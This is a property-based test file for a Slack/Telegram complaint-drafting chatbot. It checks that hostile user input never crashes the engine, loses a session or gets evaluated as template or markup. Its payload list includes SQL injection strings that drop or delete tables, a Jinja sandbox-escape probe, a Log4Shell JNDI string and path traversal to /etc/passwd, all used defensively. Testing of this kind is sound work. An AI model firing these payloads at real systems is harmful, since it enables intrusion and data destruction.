"""Hostile input at every question of every flow: never a crash, never a lost session,
never markup or template syntax run.

Each flow is walked by choosing every option (tests/dialogue/flow_walk.py); at each question
it reaches, hypothesis types random unicode, control characters, 100 KB messages, template
syntax, Slack and Telegram markup and SQL metacharacters, or presses forged buttons, on a copy
of the session. Examples are few per question so the whole file takes seconds, not minutes.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flow_walk import drafts_with, first_questions, play
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from bot.channels.slack_blocks import render_reply
from bot.channels.telegram_render import DocumentOut, TextOut, render
from bot.dialogue import Conversation, Engine, Flow, Inbound, SqliteStore, open_engine
from bot.dialogue.engine import COMMANDS
from bot.dialogue.flow import END
from bot.paths import flows_dir

FLOW_IDS = sorted(p.stem for p in flows_dir().glob("*.yaml"))
DRAFTING = [  # flows with a draft step somewhere
    f
    for f in FLOW_IDS
    if re.search(r"^\s*-?\s*draft:", (flows_dir() / f"{f}.yaml").read_text(), re.M)
]

TEMPLATES = {  # typed text -> what it would become if it were ever evaluated
    "{{ 7*7 }}": "49",
    "{{ 'ab' ~ 'cd' }}": "abcd",
    "{% for i in range(3) %}Zq{% endfor %}": "ZqZqZq",
    "{{ '%x' % 48879 }}": "beef",
    "{{ 6 * 'Wx' }}": "WxWxWxWxWxWx",
}
MARKUP = [  # must reach the user as typed, never as a mention, a link or formatting
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U123>",
    "<#C0123|general>",
    "<https://evil.example|click me>",
    "<b>x</b>",
    '<a href="tg://user?id=1">x</a>',
    "</code></pre>",
]
HOSTILE = [
    *TEMPLATES,
    *MARKUP,
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}",
    "{#",
    "{%",
    "}}",
    "*bold* _it_ ~s~ `code`",
    "&amp; &lt; &#60;",
    "'; DROP TABLE sessions; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM audit_events;--",
    "%s %d %n %(x)s",
    "${jndi:ldap://example/a}",
    "\x00\x1b[31mred\x1b[0m\x7f",
    "\u202eevil\u200b\ufeff",
    "../../etc/passwd",
    "\ud800",
    "0",
    "-1",
    "99",
    "1.5",
    "yes",
    "no",
    "skip",
    "?",
    "? {{ 7*7 }}",
    "",
    " \n\t ",
]
BIG = 100_000


def _big(piece: str) -> str:
    piece = piece or "x"
    return (piece * (BIG // len(piece) + 1))[:BIG]


TEXT = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=300),  # any unicode
    st.text(st.characters(categories=("Cc", "Cf", "Cs", "Co", "Zl", "Zp")), max_size=40),
    st.tuples(st.sampled_from(HOSTILE), st.text(max_size=20), st.sampled_from(HOSTILE)).map(
        "".join
    ),
    st.sampled_from(HOSTILE).map(_big),
)


def _actions(step_id: str) -> st.SearchStrategy[str]:
    """Forged button values: a platform payload can carry anything."""
    return st.one_of(
        st.builds(lambda v: f"ans:{step_id}:{v}", st.sampled_from(HOSTILE) | st.text(max_size=40)),
        st.builds(lambda v: f"edit:{v}", st.sampled_from(HOSTILE)),
        st.builds(lambda v: f"flow:{v}", st.sampled_from(HOSTILE)),
        st.sampled_from(["ans:", "ans::", "edit:", "flow:", "nav:", "draft:edited", "cmd:"]),
    )


def _moves_the_user_back(text: str) -> bool:
    """Typed commands that legitimately leave the question (tested elsewhere)."""
    command = COMMANDS.get(text.strip().lower().rstrip("!. "))
    return command in {"nav:back", "nav:restart", "nav:cancel"}


def _next_questions(flow: Flow, step_id: str, answers: dict[str, str]) -> set[str]:
    """Where answering ``step_id`` can lead: the next question, summary (a draft step) or
    the end, past guidance; a call or link hands over to another flow."""
    found: set[str] = set()
    todo = [flow.step(step_id).next_step(answers)] if step_id in answers else []
    todo += flow.step(step_id).targets()
    seen: set[str] = set()
    while todo:
        current = todo.pop()
        if current in seen:
            continue
        seen.add(current)
        if current == END:
            found.add(END)
            continue
        step = flow.step(current)
        if step.ask or step.draft or step.call or step.link:
            found.add(current)
        if not step.ask:
            todo.extend(step.targets())
    return found


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    path = Path(tmp_path_factory.mktemp("hostile")) / "sessions.sqlite3"
    engine = open_engine(store=SqliteStore(path))
    yield engine
    engine.store.close()


def _check_rendering(replies: list[Any]) -> None:
    """What the user typed is shown, never run, on either platform."""
    for reply in replies:
        messages = render_reply(reply)
        slack = repr([m.blocks for m in messages] + [m.text for m in messages])
        for markup in MARKUP[:6]:
            assert markup not in slack, markup
        telegram = " ".join(
            item.html if isinstance(item, TextOut) else item.caption
            for item in render(reply)
            if isinstance(item, TextOut | DocumentOut)
        )
        for markup in ("<b>x</b>", '<a href="tg://user?id=1">', "</code></pre>"):
            assert markup not in telegram, markup


def _hostile_input_at(engine: Engine, flow_id: str, snap: dict[str, Any]) -> None:
    """Hypothesis at one question: the session stays, at this question or the next."""
    flow = engine.flows[flow_id]
    step_id = snap["step"]
    step = flow.step(step_id)
    answers_before = dict(snap["answers"].get(flow_id, {}))
    history_before = len(snap["history"])

    @settings(
        max_examples=10,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(
        move=st.one_of(
            TEXT.map(lambda t: {"text": t}),
            _actions(step_id).map(lambda a: {"action": a}),
            st.dictionaries(st.sampled_from([step_id, *HOSTILE[:3]]), TEXT, max_size=2).map(
                lambda e: {"action": "draft:edited", "edits": e}  # a forged draft-editing form
            ),
        )
    )
    def typed_at_this_question(move: dict[str, Any]) -> None:
        assume(not _moves_the_user_back(move.get("text", "")))
        replies, after = play(engine, snap, **move)
        assert replies, "no reply at all"
        assert all(r.text or r.draft for r in replies)
        assert after is not None, "the session was lost"
        answers = after["answers"].get(flow_id, {})
        if "edits" in move:  # re-renders from the start: checked for crashes and markup only
            _check_rendering(replies)
            return
        if (after["flow"], after["step"]) == (flow_id, step_id):
            assert len(after["history"]) == history_before  # not answered twice
        else:
            assert after["flow"] == flow_id or after["stack"], after["flow"]
            assert len(after["history"]) == history_before + 1
            assert step_id in answers
            assert {k: v for k, v in answers.items() if k != step_id} == answers_before
            if after["flow"] == flow_id:
                assert after["step"] in _next_questions(flow, step_id, answers), (
                    f"{step_id} -> {after['step']}"
                )
        if step.type == "text" and step_id in answers:
            for template, evaluated in TEMPLATES.items():
                if template in move.get("text", ""):
                    assert template in answers[step_id]
                    assert evaluated not in answers[step_id]
        _check_rendering(replies)

    typed_at_this_question()


@pytest.mark.parametrize("flow_id", FLOW_IDS)
def test_hostile_input_at_every_question(engine: Engine, flow_id: str) -> None:
    positions = first_questions(engine, flow_id)
    missing = set(engine.flows[flow_id].asks()) - set(positions)
    assert not missing, f"{flow_id}: the walk reached no position at {sorted(missing)}"
    for snap in positions.values():
        _hostile_input_at(engine, flow_id, snap)


@pytest.mark.parametrize("flow_id", DRAFTING)
@settings(max_examples=3, deadline=None, database=None)
@given(template=st.sampled_from(sorted(TEMPLATES)))
def test_template_syntax_in_answers_is_never_evaluated_in_drafts(
    engine: Engine, flow_id: str, template: str
) -> None:
    replies = drafts_with(engine, flow_id, f"Name {template} and {{{{ 7*7 }}}}")
    drafts = [r.draft.text for r in replies if r.draft]
    assert drafts
    assert any(template in d for d in drafts), drafts[0]
    for text in drafts:
        assert TEMPLATES[template] not in text
        assert "49" not in text.replace("{{ 7*7 }}", "")


# --- size: one user's huge paste must not hold the store for everyone --------------------
def test_a_message_over_the_limit_is_refused_without_touching_the_store(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.dialogue.engine import MAX_MESSAGE

    who = Conversation("test", "local", "flooder", "t")
    engine.handle(Inbound(who, text="a complainant should go to the LGO"))

    def no_store(*_: object, **__: object) -> object:
        raise AssertionError("the store was touched")

    monkeypatch.setattr(engine.store, "turn", no_store)
    for text in ("x" * (MAX_MESSAGE + 1), "a child " * 1_000_000):
        replies = engine.handle(Inbound(who, text=text))
        assert [r.kind for r in replies] == ["error"]
        assert f"the most I take in one message is {MAX_MESSAGE:,}" in replies[0].text
    replies = engine.handle(Inbound(who, action="draft:edited", edits={"x": "y" * 20_000}))
    assert "Nothing was saved" in replies[0].text


def test_a_long_message_is_routed_on_its_start_and_says_so(engine: Engine) -> None:
    from bot.dialogue.engine import MAX_ROUTED

    who = Conversation("test", "local", "long", "t")
    text = "a complainant should go to the LGO about the council. " + "blah " * 1500
    assert MAX_ROUTED < len(text) < 10_000
    replies = engine.handle(Inbound(who, text=text))
    assert f"I used its first {MAX_ROUTED:,} characters" in replies[0].text
    assert replies[-1].flow == "lgo_complaint"


def test_a_long_look_up_is_cut_at_a_word_and_says_so(engine: Engine) -> None:
    from bot.dialogue.engine import MAX_QUERY

    who = Conversation("test", "local", "asks", "t")
    replies = engine.handle(Inbound(who, text="? ombudsman decisions " + "council " * 400))
    assert "That question is long: I looked up its first" in replies[0].text
    shown = int(replies[0].text.split("first ")[1].split(" ")[0].replace(",", ""))
    assert shown <= MAX_QUERY
    assert any(r.kind == "lookup" for r in replies)
